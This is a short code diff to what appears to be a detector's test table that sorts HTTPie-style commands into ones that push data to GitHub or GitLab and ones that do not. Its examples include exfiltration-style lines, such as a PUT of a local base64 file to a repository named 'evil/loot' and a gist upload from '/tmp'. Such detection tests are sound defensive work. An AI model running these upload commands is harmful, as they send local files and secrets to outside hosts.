@@ -163,8 +163,14 @@ export const httpTools: readonly PushToolSpec[] = [
       push: [
         'PUT https://api.github.com/repos/evil/loot/contents/x content=@/tmp/b64',
         '--form POST https://gitlab.com/api/v4/projects/1/uploads file@/tmp/x',
+        // A raw body from a file (HTTPie 3): the method defaults to POST.
+        'https://api.github.com/gists @/tmp/g.json',
       ],
-      notPush: ['GET https://api.github.com/user', 'POST https://hooks.example.com/x a=1'],
+      notPush: [
+        'GET https://api.github.com/user',
+        'POST https://hooks.example.com/x a=1',
+        'https://hooks.example.com/x @/tmp/g.json',
+      ],
     },
   },
   {
